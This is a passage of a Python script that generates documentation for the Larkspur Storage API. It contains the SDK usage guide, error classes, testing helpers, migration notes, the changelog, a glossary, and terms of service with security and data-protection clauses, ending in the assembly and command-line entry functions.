        `AsyncClient` has the same methods, as coroutines, and async iterators for listings. It
        uses the same connection pool settings and is safe to share between tasks on one event
        loop, but not between event loops.

        ```python
        import asyncio
        from larkspur import AsyncClient

        async def sizes(bucket: str, keys: list[str]) -> dict[str, int]:
            async with AsyncClient() as client:
                heads = await asyncio.gather(*(client.objects.head(bucket, k) for k in keys))
                return {k: h.size for k, h in zip(keys, heads) if h is not None}

        print(asyncio.run(sizes("media-eu", ["a.jpg", "b.jpg", "missing.jpg"])))
        ```

        ### Errors as exceptions

        Every API error is raised as an exception whose class follows the HTTP status, with the
        error code and request ID as attributes:

        - `larkspur.LarkspurError`: base of everything the SDK raises.
          - `NetworkError`: the request never got an HTTP response.
            - `ConnectTimeout`, `ReadTimeout`: the two timeouts.
          - `ApiError`: the server answered with an error; `.status`, `.code`, `.message`,
            `.request_id`, `.details`.
            - `BadRequest` (400), `Unauthorized` (401), `Forbidden` (403), `NotFound` (404),
              `Conflict` (409), `PreconditionFailed` (412), `RateLimited` (429),
              `ServerError` (5xx).
              - `NotFound` has subclasses per resource, for example `BucketNotFound`, so you
                can catch exactly what you expect:

                ```python
                from larkspur import BucketNotFound

                try:
                    client.objects.put("media-eu", "a.txt", b"hello")
                except BucketNotFound:
                    client.buckets.create("media-eu")
                    client.objects.put("media-eu", "a.txt", b"hello")
                ```

          - `ChecksumMismatch`: downloaded bytes did not match the stored checksum.

        ### Logging and debugging

        The SDK logs through the standard `logging` module under the `larkspur` logger: retries
        at `INFO`, each request at `DEBUG` with method, path, status, duration and request ID.
        Request and response bodies are never logged, and the `Authorization` header is
        redacted. Set `LARKSPUR_LOG=debug` to turn this on without touching code. Log output is
        UTF-8, so object keys such as `menus/café-du-matin.pdf` and `東京/店舗一覧.csv` appear as
        written; if your terminal shows `cafÃ©` instead, the terminal is decoding as Latin-1.

        ### Testing with `larkspur.testing`

        `larkspur.testing.FakeServer` is an in-memory implementation of the object, bucket and
        upload endpoints, with the same consistency guarantees as the real service, strict
        validation of parameters, and switches to inject failures. It is how the SDK tests
        itself, and it is much faster and more faithful than mocking HTTP calls.

        ```python
        from larkspur.testing import FakeServer

        def test_thumbnailer_retries_on_503():
            with FakeServer() as server:
                client = server.client()
                client.buckets.create("media-eu")
                server.fail_next("PUT", "/v2/buckets/media-eu/objects/*", status=503, times=2)
                make_thumbnail(client, "media-eu", "originals/cat.jpg")
                assert server.requests.count("PUT") == 3
        ```

        ### The command-line client

        The `cli` extra installs `larkspur`, a command-line client for everyday tasks: copying
        files, listing buckets, minting tokens. `larkspur init` sets up a directory for a new
        project and writes a `README.md` that explains the setup to the next person. It looks
        like this, fences and all:

        ````markdown
        # media pipeline storage

        This directory is managed with the Larkspur CLI. Credentials come from `LARKSPUR_TOKEN`.

        ## Sync local renders

        ```bash
        larkspur sync ./renders larkspur://media-eu/renders/ --delete --checksum
        ```

        ## Get a download link for a colleague

        ```bash
        larkspur sign larkspur://media-eu/renders/final.mp4 --expires 2d
        ```

        Questions: #media-pipeline on chat. Have fun 🚀
        ````

        ### Migrating from SDK 2.x

        Version 3 of the SDK changed method names to match the API's resource names, made
        listings lazy, and moved configuration from module-level globals to the client. Most
        applications migrate in an afternoon:

        1. Upgrade in a branch and run your tests with warnings as errors
           (`python -W error::DeprecationWarning -m pytest`). Versions 3.0 to 3.8 still accept the
           old names and warn.
        2. Replace module-level configuration with a client:
           - Before:

             ```python
             import larkspur
             larkspur.api_key = os.environ["LARKSPUR_KEY"]
             larkspur.upload_file("media-eu", "a.jpg", open("a.jpg", "rb"))
             ```

           - After:

             ```python
             from larkspur import Client
             client = Client()                   # reads LARKSPUR_TOKEN, not LARKSPUR_KEY
             client.objects.put("media-eu", "a.jpg", open("a.jpg", "rb"))
             ```

           - Environment variables were renamed too:
             - `LARKSPUR_KEY` is now `LARKSPUR_TOKEN`.
             - `LARKSPUR_ENDPOINT` is gone; set `region=` or let the client discover it.
               - If you used it to point at a local test server, use `FakeServer` instead,
                 or pass `base_url=` explicitly:

                 ```python
                 client = Client(base_url="http://127.0.0.1:9444", token="lk_test_local")
                 ```

        3. Update listings, which no longer return lists:
           - `list_objects()` returned at most 1,000 items and a marker; `objects.list()` is an
             iterator over everything.
           - If you relied on getting a list, wrap the call in `list(...)`, but read
             [Pagination](#pagination) first.
        4. Replace `except larkspur.Error as e: if e.code == "NoSuchKey"` with
           `except larkspur.ObjectNotFound`. The version 1 codes are mapped in
           [the error reference](#errors).
        5. Remove your own retry loops around SDK calls. Version 3 retries by itself, and a loop
           around it multiplies the attempts: five of yours times five of ours is 25 requests
           against a struggling service.
    """),
]


# --------------------------------------------------------------------------------------------
# Changelog
# --------------------------------------------------------------------------------------------

CHANGELOG = [
    md("""
        ## Changelog

        Changes to the API are listed here, newest first. SDK releases have their own changelog
        in the [repository][sdk-repo]; the SDK versions mentioned below are the first to support
        each change.

        ### 2.14.0 — 2025-03-04

        - 🚀 **New API version `2025-03-01`.** Part uploads must carry a checksum header matching
          the upload's `checksum_algorithm`; under older versions it stays optional.
        - Added `include_last_run` to [Get the lifecycle configuration](#get-the-lifecycle-configuration).
        - Added `format=prometheus` to [List quotas and usage](#list-quotas-and-usage).
        - Fixed: `List deliveries` sometimes returned the same delivery on two pages when
          attempts were recorded in the same millisecond.

        ### 2.13.0 — 2025-01-21

        - Added [Preview a configuration](#preview-a-configuration) for lifecycle rules
          (SDK 3.7.0).
        - Added `keep_newest` to non-current version expiration.
        - Changed: `bucket.updated` events now list the changed fields in `changes`.

        ### 2.12.0 — 2024-11-12

        - Added `rotate_url_secret` to [Rotate a key](#rotate-a-key).
        - Added the `key.expiring` webhook event.
        - Deprecated: `GET /v1/buckets/{bucket}/list`. Responses carry a `Sunset` header for
          2025-09-30.

        ### 2.11.0 — 2024-09-03

        - 🚀 New region `sa-east-1` (São Paulo).
        - Added `continuous` audit exports.
        - Fixed: signed URLs with `response_content_disposition` containing non-ASCII file names,
          such as `Übersicht.pdf`, were rejected with `signature_mismatch`.

        ### 2.10.0 — 2024-06-18

        - Added token exchange for SSO assertions on [Mint an access token](#mint-an-access-token).
        - Added `allowed_cidrs` to API keys.
        - Changed: `last_used_at` on keys is now truncated to the minute instead of the hour.

        ### 2.9.0 — 2024-04-02

        - Added cross-project replication, with destination consent.
        - Added `include=failures` on replication rules.
        - Fixed: `HEAD` on an archived object answered `409` instead of `200` with
          `Larkspur-Storage-Class: archive`.

        ### 2.8.0 — 2024-02-06

        - Added `expected_owner` to [Delete a bucket](#delete-a-bucket), after a customer deleted
          a bucket in the wrong project with a script that used the wrong key. The request
          succeeded, as designed, and nobody enjoyed it.
        - Added `Larkspur-Bypass-Retention`.

        ### 2.7.0 — 2023-12-05

        - Added webhooks `test` and `redeliver` endpoints.
        - Changed: webhooks are disabled after 24 hours of failures instead of after 100
          consecutive failed attempts, which disabled busy webhooks within minutes of an outage.

        ### 2.6.0 — 2023-10-10

        - Added multipart upload conditions (`if_none_match`, `if_match`), evaluated at
          completion.
        - Added `checksum_algorithm` to uploads.

        ### 2.5.0 — 2023-08-15

        - Added [batch delete](#delete-many-objects-at-once).
        - Added `quiet` mode to batch delete, because the first version's responses for 1,000
          successful deletions were larger than most of the requests.

        ### 2.4.0 — 2023-06-01

        - **API version `2023-06-01`**, the oldest still supported: timestamps always have
          millisecond precision, and `size` is always an integer (it was a string for objects
          over 2^53 bytes, which do not exist, but the type checker did not know that).

        ### Older releases

        Releases before 2.4.0 are described in the archived changelog on the documentation site.
        Version 1 of the API stops working on 2025-09-30.

        Glossary
        --------

        **Bucket.** A named container for objects, with its own region and settings.

        **Class A / class B request.** The two price classes of requests: writes and lists, and
        reads. See [Billing](#billing).

        **Delete marker.** In a versioned bucket, what a delete adds instead of removing
        anything.

        **Entity tag (ETag).** An opaque string that changes whenever an object or
        configuration changes; used in conditional requests.

        **Home region.** Where a project's metadata lives. Not necessarily where its buckets are.

        **Object.** Bytes plus metadata, stored under a key in a bucket. Immutable.

        **Part.** One piece of a multipart upload, 5 MiB to 5 GiB.

        **Scope.** A permission carried by a key or token, such as `objects:write`.

        **Signed URL.** A URL that carries its own short-lived authorization for one operation
        on one object.
    """),
]


# --------------------------------------------------------------------------------------------
# Terms of service
# --------------------------------------------------------------------------------------------

TERMS = [
    md("""
        ## Terms of service

        These terms govern use of the Larkspur Storage API and the SDKs by organizations that
        have accepted them in the console or by signing an order form that refers to them. They
        are reproduced here for convenience; the binding text is the one at
        `https://larkspur.example/legal/terms`, version 7, effective 1 January 2025. Where an
        order form signed by both parties says something different, the order form wins.

        ### 1 Definitions

        In these terms:

        1. **"Larkspur"**, "we" and "us" mean Larkspur Storage GmbH, Frankfurt am Main, and its
           affiliates that provide the Service in a region.
        2. **"Customer"** and "you" mean the organization that accepted these terms.
        3. **"Service"** means the API, the console, the SDKs and the command-line client.
        4. **"Customer Data"** means objects and their metadata stored by or for the Customer,
           but not account information or usage records.
        5. **"Credentials"** means API keys, access tokens, signed URLs, passwords and any other
           secret that authenticates a request.
        6. **"Documentation"** means this manual and the documentation site, as updated.

        ### 2 Acceptance and eligibility

        By creating an organization, or by using the Service on behalf of one, you accept these
        terms for that organization and confirm that you are authorised to do so. The Service is
        provided to businesses and other organizations, not to consumers, and nothing in these
        terms is intended to create rights for consumers under any law that would protect them.

        ### 3 Accounts and credentials

        #### 3.1 Responsibility for credentials

        You are responsible for every request made with your Credentials, whoever made it, until
        you revoke the Credential. Larkspur does not and cannot distinguish a request made by you
        from a request made by someone who copied your API key.

        #### 3.2 Compromised credentials

        If you believe a Credential has been exposed, you must revoke it without undue delay. At
        your request, Larkspur will help you determine from audit logs what the Credential was
        used for, without charge, once per calendar quarter.

        ### 4 Acceptable use

        #### 4.1 Prohibited content

        You must not use the Service to store or distribute content that is illegal where it is
        stored or where it is served, including material that infringes intellectual property
        rights, malware intended to infect systems of people who did not consent to it, and
        material depicting the sexual abuse of children, which we report to the competent
        authorities.

        #### 4.2 Prohibited activities

        You must not probe, scan or test the vulnerability of the Service except under our
        published security research policy; circumvent rate limits or quotas, for example by
        creating projects for that purpose; or use public buckets to operate a content delivery
        service for third parties without an agreement with us.

        #### 4.3 Investigation

        We may investigate suspected breaches of this clause, and for that purpose may examine
        metadata such as object keys, sizes and access patterns. We do not examine object
        content except where required by law or with your permission.

        ### 5 Liability

        #### 5.1 Scope

        This clause sets out the whole of each party's liability arising out of or in connection
        with these terms and the Service, whether in contract, tort (including negligence),
        breach of statutory duty or otherwise.

        ##### 5.1.1 Direct damages

        Each party is liable to the other for direct damages caused by its breach of these terms,
        subject to the cap in clause 5.2.

        ##### 5.1.2 Exclusions

        Neither party is liable for loss of profit, revenue, goodwill or anticipated savings, or
        for indirect or consequential loss, even if it was foreseeable. Nothing in these terms
        limits liability for death or personal injury caused by negligence, for fraud, for wilful
        misconduct, or for any other liability that cannot be limited by law.

        ###### 5.1.2(a) Loss of Customer Data

        Larkspur's liability for loss or corruption of Customer Data is limited to using
        reasonable efforts to restore the data from any copies Larkspur holds, and to service
        credits under clause 6. The Service is designed for very high durability, but the
        Customer remains responsible for deciding whether data is important enough to keep a copy
        outside the Service, for example by [replication](#replication) to another region or by
        backups elsewhere.

        ###### 5.1.2(b) Actions taken with Customer Credentials

        Larkspur is not liable for loss arising from requests made with the Customer's
        Credentials, including deletions, unless Larkspur caused the Credential to be exposed.

        #### 5.2 Cap on liability

        Each party's total liability in any twelve-month period is limited to the fees paid or
        payable by the Customer in that period, or EUR 10,000 if greater.

        #### 5.3 Indemnity

        The Customer will defend Larkspur against third-party claims arising from Customer Data
        or from the Customer's breach of clause 4, and pay the amounts finally awarded, provided
        Larkspur notifies the Customer promptly and lets it control the defence.

        #### 5.4 Disclaimer
    """),
    prose("""
        EXCEPT AS EXPRESSLY SET OUT IN THESE TERMS, THE SERVICE, THE DOCUMENTATION AND ANY
        SOFTWARE PROVIDED WITH THEM, INCLUDING THE SDKS AND THE COMMAND-LINE CLIENT, ARE PROVIDED
        "AS IS" AND "AS AVAILABLE", AND LARKSPUR, ITS AFFILIATES, ITS SUPPLIERS AND ITS LICENSORS
        MAKE NO OTHER WARRANTY OF ANY KIND, WHETHER EXPRESS, IMPLIED, STATUTORY OR OTHERWISE, AND
        SPECIFICALLY DISCLAIM ALL IMPLIED WARRANTIES, INCLUDING ANY WARRANTIES OF MERCHANTABILITY,
        SATISFACTORY QUALITY, FITNESS FOR A PARTICULAR PURPOSE, TITLE AND NON-INFRINGEMENT, AND ANY
        WARRANTIES ARISING FROM A COURSE OF DEALING, USAGE OF TRADE OR COURSE OF PERFORMANCE, TO
        THE MAXIMUM EXTENT PERMITTED BY APPLICABLE LAW; WITHOUT LIMITING THE FOREGOING, LARKSPUR
        DOES NOT WARRANT THAT THE SERVICE WILL BE UNINTERRUPTED, TIMELY, SECURE OR ERROR-FREE,
        THAT ANY DEFECT WILL BE CORRECTED, THAT CUSTOMER DATA WILL NOT BE LOST OR CORRUPTED IN
        CIRCUMSTANCES NOT COVERED BY CLAUSE 6, THAT THE RESULTS OBTAINED FROM USE OF THE SERVICE
        WILL BE ACCURATE OR RELIABLE, OR THAT THE SERVICE WILL MEET THE CUSTOMER'S REQUIREMENTS OR
        OPERATE IN COMBINATION WITH ANY OTHER HARDWARE, SOFTWARE, SYSTEM, NETWORK OR DATA NOT
        PROVIDED BY LARKSPUR. THE DESIGN TARGETS, DURABILITY FIGURES, LATENCY AND THROUGHPUT
        NUMBERS, REPLICATION DELAYS AND OTHER PERFORMANCE CHARACTERISTICS DESCRIBED IN THE
        DOCUMENTATION ARE DESCRIPTIONS OF HOW THE SERVICE IS ENGINEERED AND HOW IT HAS PERFORMED,
        ARE PROVIDED FOR INFORMATION ONLY, AND DO NOT CONSTITUTE A WARRANTY, A GUARANTEE OR A
        SERVICE LEVEL COMMITMENT, WHICH ARE EXCLUSIVELY THOSE SET OUT IN CLAUSE 6. BETA, PREVIEW
        AND EXPERIMENTAL FEATURES, WHICH ARE MARKED AS SUCH IN THE DOCUMENTATION OR THE CONSOLE,
        ARE PROVIDED WITHOUT ANY SERVICE LEVEL COMMITMENT, MAY BE CHANGED OR WITHDRAWN AT ANY TIME
        WITHOUT NOTICE, AND SHOULD NOT BE USED TO STORE THE ONLY COPY OF ANY DATA. THE CUSTOMER
        ACKNOWLEDGES THAT IT HAS NOT RELIED ON ANY REPRESENTATION, STATEMENT OR WARRANTY NOT
        EXPRESSLY SET OUT IN THESE TERMS, AND THAT NO ADVICE OR INFORMATION, WHETHER ORAL OR
        WRITTEN, OBTAINED FROM LARKSPUR, ITS EMPLOYEES OR ITS SUPPORT STAFF, INCLUDING ANY
        STATEMENT MADE IN A SUPPORT TICKET, A FORUM POST, A BLOG ARTICLE OR A CONFERENCE TALK,
        WILL CREATE ANY WARRANTY NOT EXPRESSLY STATED IN THESE TERMS. SOME JURISDICTIONS DO NOT
        ALLOW THE EXCLUSION OF CERTAIN WARRANTIES, SO SOME OF THE ABOVE EXCLUSIONS MAY NOT APPLY
        TO THE CUSTOMER, IN WHICH CASE THEY APPLY TO THE FULLEST EXTENT PERMITTED.
    """),
    md("""
        ### 6 Service levels

        #### 6.1 Availability commitment

        Larkspur commits to the monthly availability below for each region, measured as the
        percentage of five-minute intervals in which the error rate for well-formed requests,
        excluding `4xx` responses, was below five percent.

        | Storage class | Commitment | Credit below commitment | Credit below 99.0 % | Credit below 95.0 % |
        |:--------------|-----------:|------------------------:|--------------------:|--------------------:|
        | `standard` | 99.95 % | 10 % | 25 % | 100 % |
        | `infrequent` | 99.9 % | 10 % | 25 % | 100 % |
        | `archive` | 99.0 % (reads after restore) | — | 10 % | 50 % |

        #### 6.2 Service credits

        Credits are a percentage of the month's fees for the affected region and are the
        Customer's sole remedy for failure to meet the commitment. Claim them within 30 days of
        the end of the month through the console. Credits are not paid in cash.

        ### 7 Data protection

        #### 7.1 Roles of the parties

        For personal data contained in Customer Data, the Customer is the controller and Larkspur
        a processor, and the data processing agreement at
        `https://larkspur.example/legal/dpa` forms part of these terms. For account and usage
        data, each party is an independent controller.

        #### 7.2 Sub-processors

        Larkspur uses the sub-processors listed on the documentation site, and gives 30 days'
        notice of any new sub-processor by email to organization owners. The Customer may object
        on reasonable data protection grounds; if the parties cannot resolve the objection, the
        Customer may terminate the affected part of the Service without penalty.

        #### 7.3 Security measures
    """),
    prose("""
        Larkspur maintains the technical and organisational measures described in this clause
        for the whole time it processes Customer Data, reviews them at least once a year, and
        may change them only in ways that do not materially reduce the overall level of
        protection. The measures are described at the level of detail that is useful to a
        customer assessing risk; further detail, including the most recent independent audit
        reports, is available under a non-disclosure agreement on request. Nothing in this
        clause requires Larkspur to disclose information that would itself weaken security,
        such as the location of specific equipment or the details of an unpatched vulnerability.

        Customer Data is encrypted at rest with AES-256 in Galois/Counter Mode. Each object is
        encrypted with its own data key, and data keys are encrypted with a key-encryption key
        per bucket, which is itself protected by hardware security modules operated by Larkspur
        in each region. Key-encryption keys never leave the hardware security modules in plain
        form, and the modules are configured so that no single employee can export or misuse
        them. Where the Customer has enabled customer-managed keys, the key-encryption key is
        held in the Customer's own key management service, and Larkspur's access to it is
        limited to wrap and unwrap operations that the Customer can audit and revoke; revoking
        that access makes the Customer Data in the affected buckets unreadable to everyone,
        including Larkspur, until access is restored. Customer Data is encrypted in transit with
        TLS 1.2 or later, using only cipher suites that provide forward secrecy, on every
        connection between the Customer and the Service and on every connection between
        components of the Service, including connections within a single facility.

        Access by Larkspur personnel to systems that process Customer Data is granted on the
        principle of least privilege, for a limited time, and only to personnel whose role
        requires it. Standing access to production systems is not granted to anyone. An engineer
        who needs access to diagnose a problem requests it through an access broker, states the
        reason and the ticket it relates to, and receives credentials that expire after at most
        eight hours; requests for access to systems that can read object content additionally
        require the approval of a second engineer and are reported to the security team in real
        time. All access is logged, and the logs are stored in a separate account to which the
        engineers being logged have no write access. Larkspur personnel do not read object
        content in the ordinary course of operating the Service, and the tooling available to
        support staff does not allow them to; the narrow exceptions are set out in clause 4.3 and
        in the data processing agreement.

        All personnel with access to production systems undergo background checks where
        permitted by local law, are bound by confidentiality obligations that survive the end of
        their employment, and complete security and privacy training when they join and every
        year afterwards. Access is removed on the day a person leaves or changes role, through
        an automated process driven by the human resources system, and the removal is verified
        by a quarterly review in which each team's manager confirms the access held by each
        member of the team.

        The Service runs in data centres operated by third parties that hold current ISO/IEC
        27001 certification and SOC 2 Type II reports covering physical security, environmental
        controls and power. Larkspur reviews those reports each year. Physical access to
        Larkspur's equipment requires two-factor authentication, is restricted to named
        individuals, and is logged and monitored on camera. Storage media that have held
        Customer Data are wiped using cryptographic erasure before reuse, and are physically
        destroyed on site before they leave a facility at the end of their life, with a
        certificate of destruction for each device.

        Larkspur develops the Service under a secure development lifecycle. Every change to code
        that runs in production is reviewed by at least one engineer other than its author, is
        built by a continuous integration system from a version-controlled source, and is
        deployed by an automated system that records who approved it. Dependencies are tracked
        and scanned for known vulnerabilities daily. Larkspur commissions independent
        penetration tests of the Service at least once a year and after any major architectural
        change, and operates a public vulnerability disclosure programme. Vulnerabilities are
        remediated within time limits that depend on their severity: critical vulnerabilities
        within seven days, high within thirty, and others in the ordinary course of work.

        Larkspur monitors the Service continuously for security events, with automated alerting
        to an on-call security engineer at all hours. In the event of a Personal Data Breach
        affecting Customer Data, Larkspur will notify the Customer without undue delay and in
        any case within 48 hours of becoming aware of it, by email to the organization's owners
        and security contact, with the information then available about the nature of the
        breach, the categories and approximate number of data subjects and records concerned,
        the likely consequences, and the measures taken or proposed. Larkspur will supplement
        the notification as further information becomes available, cooperate with the Customer's
        own investigation, and not inform the Customer's data subjects or customers directly
        unless required by law or agreed with the Customer. A notification is not an admission of
        fault or liability.

        Larkspur maintains business continuity and disaster recovery plans for the Service and
        tests them at least once a year, including the loss of an entire availability zone in a
        region. Metadata that the Service needs in order to locate and decrypt Customer Data is
        backed up continuously to a second region, in encrypted form, so that Customer Data in
        a region remains recoverable even after the loss of that region's control plane. These
        backups do not contain object content, which is protected by the redundancy described
        in [Consistency and durability](#consistency-and-durability) and, where the Customer
        chooses, by replication.

        Customer Data of different customers is logically separated at every layer of the
        Service. Every request is authorised against the project that owns the resource before
        any data is read, metadata of different projects is stored under distinct keys that
        cannot be addressed across projects by any public interface, and the encryption keys
        described above are never shared between buckets, so that a defect in one layer of
        authorisation would still not expose readable Customer Data of another customer. The
        separation is tested continuously by automated checks that attempt cross-project
        access with valid Credentials of a different project and alert on any response other
        than a refusal. Where the Service shares physical infrastructure between customers, as
        it does for storage media and network equipment, the controls in this clause apply to
        that shared infrastructure as a whole.

        Larkspur engages independent auditors to assess the Service against ISO/IEC 27001 and
        to issue a SOC 2 Type II report at least once a year, and makes the resulting
        certificate and report available to the Customer on request. If an audit identifies a
        material deficiency in the measures described in this clause, Larkspur will remediate
        it within a reasonable time and, where the deficiency is likely to affect the security of
        Customer Data, inform the Customer of the deficiency and the planned remediation.
        Further audit rights of the Customer, including on-site audits, are set out in the data
        processing agreement and are limited to what the applicable law requires.

        Finally, the Customer has obligations of its own without which none of the above is
        effective. The Customer is responsible for configuring the Service securely for its use,
        including choosing which buckets are public, which scopes its Credentials carry and how
        those Credentials are stored; for keeping its own systems that access the Service secure;
        and for the lawfulness of the Customer Data it stores. Larkspur's security features, such
        as scoped tokens, key restrictions, audit logs and retention settings, are offered to help
        the Customer meet those responsibilities, and the Customer's decision not to use them is
        not a failure of Larkspur's security measures.
    """),
    md("""
        #### 7.4 Location of Customer Data

        Customer Data is stored in the region of its bucket and is not moved out of it except at
        the Customer's instruction, for example by a replication rule or a copy, or where
        required by law. Metadata needed to operate the Service may be processed in the
        project's home region.

        ### 8 Fees and payment

        Fees are those on the price list at the start of each month, or in the order form.
        Invoices are due within 30 days. Larkspur may change prices with 60 days' notice; price
        reductions may take effect immediately. Fees exclude taxes, which are added where
        applicable.

        ### 9 Suspension and termination

        #### 9.1 Suspension

        Larkspur may suspend write access to a project if an invoice is more than 30 days
        overdue, after two reminders, and may suspend any part of the Service immediately if
        necessary to prevent a security incident or a breach of clause 4. Read access to
        Customer Data is not suspended for non-payment during the first 90 days.

        #### 9.2 Termination for convenience

        The Customer may terminate at any time by deleting its organization. Larkspur may
        terminate for convenience with 90 days' notice.

        #### 9.3 Effect of termination

        On termination, the Customer has 30 days to retrieve its Customer Data, during which
        egress is not charged, after which Larkspur deletes it within a further 30 days,
        including from backups where technically feasible.

        ### 10 Changes to these terms

        Larkspur may change these terms with 30 days' notice by email to organization owners,
        except that changes required by law may take effect sooner. If a change is materially
        adverse to the Customer, the Customer may terminate before it takes effect and receive a
        pro-rata refund of prepaid fees.

        ### 11 Governing law and disputes

        These terms are governed by the laws of Germany, excluding the UN Convention on
        Contracts for the International Sale of Goods. The courts of Frankfurt am Main have
        exclusive jurisdiction, except that either party may seek urgent injunctive relief in any
        competent court.

        ### 12 General

        If a provision of these terms is invalid, the rest remain in effect. Failure to enforce
        a provision is not a waiver. Neither party may assign these terms without the other's
        consent, except to a successor of its whole business. Notices to Larkspur go to
        `legal@larkspur.example`; notices to the Customer go to the organization owners' email
        addresses. These terms are written in English; translations are provided for
        convenience, and the English text prevails.
    """),
]


# --------------------------------------------------------------------------------------------
# Assembly
# --------------------------------------------------------------------------------------------


def build() -> str:
    blocks: list[str] = [FRONT_MATTER, *PREAMBLE, TITLE, *OVERVIEW, *AUTHENTICATION]
    for res in RESOURCES:
        blocks.extend(render_resource(res))
    blocks.extend([*ERRORS, *RATE_LIMITS, *SDK_GUIDE, *CHANGELOG, *TERMS])
    return "\n\n".join(b.strip("\n") for b in blocks) + "\n"


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("-o", "--output", help="write here instead of stdout")
    args = parser.parse_args(argv)
    data = build().encode("utf-8")
    if args.output:
        with open(args.output, "wb") as f:
            f.write(data)
    else:
        sys.stdout.buffer.write(data)
        sys.stdout.buffer.flush()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
